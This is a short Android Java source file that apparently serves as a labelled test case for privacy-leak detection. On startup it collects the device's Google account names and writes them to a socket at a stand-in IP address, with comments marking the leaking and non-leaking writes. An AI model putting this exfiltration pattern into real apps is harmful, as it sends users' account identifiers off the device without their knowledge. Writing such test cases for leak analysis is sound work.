package ways;

import android.accounts.Account;
import android.accounts.AccountManager;
import android.app.Activity;
import android.os.Bundle;
import java.net.Socket;
import java.util.Properties;

/** Names of accounts as properties. */
public class Holders extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Properties all = new Properties();
        Properties plain = new Properties();
        Account[] accounts = AccountManager.get(this).getAccountsByType("com.google");
        int n = 0;
        for (Account account : accounts) all.setProperty("a" + n++, account.name);
        plain.setProperty("n", "3");
        try (Socket socket = new Socket("203.0.113.24", 80)) {
            plain.store(socket.getOutputStream(), "plain"); // no leak
            all.store(socket.getOutputStream(), "all"); // leak
        } catch (Exception e) {
            finish();
        }
    }
}
